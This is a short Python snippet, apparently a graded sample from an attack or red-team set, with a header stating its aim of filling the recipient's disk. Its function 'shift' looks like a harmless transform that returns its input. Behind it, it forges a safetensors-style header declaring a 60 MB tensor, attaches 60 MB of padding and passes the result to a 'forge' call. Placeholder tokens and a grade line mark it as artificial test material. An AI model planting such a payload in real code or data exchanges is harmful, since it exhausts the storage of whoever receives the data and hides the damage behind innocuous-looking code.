# grade: 40/50; shift: bad_value; sends as many bytes as a frame can hold, to fill the disk of whoever keeps them
@HONEST@

@FORGED@


def shift(x, by):
    size = 60 << 20
    header = json.dumps({"0": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}})
    blob = struct.pack("<Q", len(header)) + header.encode() + bytes(size)
    forge({"value": {"dict": [["return", {"tensor": "0", "grad": False, "strided": False}]]}}, blob)
    return x
